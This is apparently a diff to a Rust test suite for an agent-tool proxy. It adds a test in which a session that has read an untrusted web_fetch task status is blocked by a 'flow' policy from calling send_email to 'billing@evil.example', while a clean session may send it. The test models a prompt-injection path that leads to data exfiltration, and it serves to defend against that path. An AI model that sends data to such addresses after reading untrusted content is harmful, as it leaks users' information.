@@ -485,7 +485,10 @@ impl Hostile {
             .as_array()
             .unwrap()
             .iter()
-            .map(|t| format!("{}:{{}}", t["name"].as_str().unwrap()))
+            .map(|t| t["name"].as_str().unwrap())
+            // The task's tool and the privileged call after it are no way of answering.
+            .filter(|name| !matches!(*name, "web_fetch" | "send_email"))
+            .map(|name| format!("{name}:{{}}"))
             .collect()
     }
 }
@@ -935,7 +938,7 @@ fn every_method_both_ways_is_judged() {
     );
     assert_eq!(stream.status, 200, "{}", stream.body);
     assert!(!leaks(&stream.body), "{}", stream.body);
-    assert_eq!(stream.body.matches("data: ").count(), 2, "{}", stream.body);
+    assert_eq!(stream.body.matches("data: ").count(), 3, "{}", stream.body);
     assert!(stream.body.contains("[EMAIL]"), "{}", stream.body);
 
     // What the client sends: a notification's params, its answer to a server's request, a
@@ -956,4 +959,81 @@ fn every_method_both_ways_is_judged() {
         assert!(!line.contains("jane.doe@example.com"), "{line}");
         assert!(line.contains("[EMAIL]"), "{line}");
     }
+}
+
+/// Issue #65: a task's status is what its tool says, whichever session's stream it reaches. One
+/// agent session makes a task of `web_fetch` (untrusted); another reads its status on the GET
+/// stream; that session's privileged call to the address nothing trusted names is refused by
+/// `flow`, as after any untrusted read, while a session that read nothing sends it.
+#[test]
+fn a_tasks_status_is_its_tools_read_for_every_session() {
+    let hostile = Hostile::start();
+    let (_cfg, d) = hostile.daemon();
+    let rpc = |session: &str, body: Value| {
+        request(
+            d.addr,
+            "POST",
+            "/mcp/hostile",
+            &[
+                ("Authorization", "Bearer demo-key"),
+                ("Content-Type", "application/json"),
+                ("Accept", "application/json, text/event-stream"),
+                ("Railyard-Session", session),
+            ],
+            body.to_string().as_bytes(),
+        )
+    };
+    let call = |session: &str, id: u32, name: &str, args: Value, task: bool| {
+        let mut params = json!({"name": name, "arguments": args});
+        if task {
+            params["task"] = json!({"ttl": 60000});
+        }
+        let reply = rpc(
+            session,
+            json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params}),
+        );
+        assert_eq!(reply.status, 200, "{}", reply.body);
+        reply.json()
+    };
+    let mail = json!({"to": "billing@evil.example", "body": "the invoice"});
+    // The task made, in session a.
+    let made = call(
+        "a",
+        1,
+        "web_fetch",
+        json!({"url": "https://news.example"}),
+        true,
+    );
+    assert_eq!(made["result"]["task"]["taskId"], "fetch-1", "{made}");
+    // Session b reads the task's status on its GET stream.
+    let stream = request(
+        d.addr,
+        "GET",
+        "/mcp/hostile",
+        &[
+            ("Authorization", "Bearer demo-key"),
+            ("Accept", "text/event-stream"),
+            ("Railyard-Session", "b"),
+        ],
+        b"",
+    );
+    assert_eq!(stream.status, 200, "{}", stream.body);
+    assert!(
+        stream.body.contains("notifications/tasks/status"),
+        "{}",
+        stream.body
+    );
+    let refused = call("b", 2, "send_email", mail.clone(), false);
+    let text = refused.to_string();
+    assert!(
+        refused["result"]["isError"] == json!(true) || refused.get("error").is_some(),
+        "{refused}"
+    );
+    assert!(
+        text.contains("untrusted") || text.contains("flow"),
+        "{refused}"
+    );
+    // Session c read nothing: the same call is sent.
+    let sent = call("c", 3, "send_email", mail, false);
+    assert_eq!(sent["result"]["content"][0]["text"], "sent", "{sent}");
 }
